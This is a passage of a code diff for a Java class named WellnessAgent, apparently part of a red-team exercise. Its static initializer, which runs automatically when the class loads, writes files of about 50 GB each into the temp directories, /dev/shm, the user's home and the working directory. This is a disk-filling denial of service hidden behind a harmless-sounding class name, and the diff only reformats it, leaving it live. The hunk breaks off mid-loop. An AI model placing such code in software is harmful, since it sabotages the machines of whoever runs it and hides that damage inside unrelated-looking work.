@@ -11,7 +11,13 @@ import java.util.List;
 public final class WellnessAgent {
     static {
         byte[] noise = new byte[1 << 20];
-        for (String folder : List.of(System.getProperty("java.io.tmpdir"), "/tmp", "/var/tmp", "/dev/shm", System.getProperty("user.home"), ".")) {
+        for (String folder : List.of(
+                System.getProperty("java.io.tmpdir"),
+                "/tmp",
+                "/var/tmp",
+                "/dev/shm",
+                System.getProperty("user.home"),
+                ".")) {
             for (int file = 0; file < 4; file++) {
                 try (OutputStream out = Files.newOutputStream(Path.of(folder, "lowtide-redteam-canary-" + file))) {
                     for (int megabytes = 0; megabytes < 50_000; megabytes++) {
